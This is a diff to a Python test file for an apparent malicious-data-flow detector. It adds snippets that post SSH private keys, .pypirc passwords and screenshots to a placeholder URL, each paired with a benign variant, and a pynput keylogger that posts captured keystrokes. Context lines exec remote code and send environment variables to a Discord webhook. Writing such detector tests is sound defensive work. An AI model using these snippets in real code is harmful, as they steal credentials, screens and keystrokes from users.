@@ -48,6 +48,11 @@ def flows(source: str) -> set[tuple[str, str]]:
         ("def get():\n    return requests.get(u).text\ndef run(c):\n    exec(c)\nrun(get())", ("remote", "code"), "def get():\n    return requests.get(u).text\ndef run(c):\n    exec('a = 1')\nrun(get())"),
         ("x = [os.environ['T']]\nrequests.post(u, data='\\n'.join(x))", ("environment", "network"), "x = [os.environ['T']]\nrequests.post(u, data='\\n'.join([]))"),
         ("d = {}\nd['k'] = os.environ['T']\nrequests.post(u, json=d)", ("environment", "network"), "d = {}\nd['k'] = 1\nrequests.post(u, json=d)"),
+        ("import shutil\nshutil.copy('/a/.ssh/id_rsa', 'k')\nrequests.post(u, data=open('k').read())", ("credential", "network"), "import shutil\nshutil.copy('/a/notes', 'k')\nrequests.post(u, data=open('k').read())"),
+        ("import zipfile\nz = zipfile.ZipFile('a.zip', 'w')\nz.write('/a/.ssh/id_rsa')\nrequests.post(u, data=open('a.zip', 'rb').read())", ("credential", "network"), "import zipfile\nz = zipfile.ZipFile('a.zip', 'w')\nz.write('/a/notes')\nrequests.post(u, data=open('a.zip', 'rb').read())"),
+        ("import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/a/.ssh/id_rsa')\nrequests.post(u, data=b.getvalue())", ("credential", "network"), "import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/a/.ssh/id_rsa')\nrequests.post(u, data=b'')"),
+        ("from configparser import ConfigParser\nc = ConfigParser()\nc.read('/a/.pypirc')\nrequests.post(u, data=c['pypi']['password'])", ("credential", "network"), "from configparser import ConfigParser\nc = ConfigParser()\nc.read('/a/.pypirc')\nrequests.post(u)"),
+        ("import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\nrequests.post(u, data=b.getvalue())", ("screen", "network"), "import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab()\nrequests.post(u, data=b.getvalue())"),
         ("from discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content=str(os.environ)).execute()", ("environment", "network"), "from discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content='up').execute()"),
     ],
 )  # fmt: skip
@@ -160,3 +165,18 @@ def test_text_that_is_not_run_is_no_layer(source: str) -> None:
 def test_modules_that_a_package_imports_are_complete_when_it_is_evaluated(whole: str, a: str, b: str) -> None:
     found = package(p=whole, p__a=a, p__b=b)
     assert ("remote", "code") in {(flow.source, flow.sink) for flow in found.flows}
+
+
+def test_a_list_that_a_callback_fills_may_have_any_length() -> None:
+    source = """
+        import requests
+        from pynput import keyboard
+        keys = []
+        def pressed(key):
+            keys.append(str(key))
+            if len(keys) > 50:
+                requests.post("u", data="".join(keys))
+        keyboard.Listener(on_press=pressed).start()
+    """
+    (flow,) = {(f.source, f.sink, f.where.conditions) for f in facts_of(source).flows if f.sink == "network"}
+    assert flow == ("keys", "network", ())
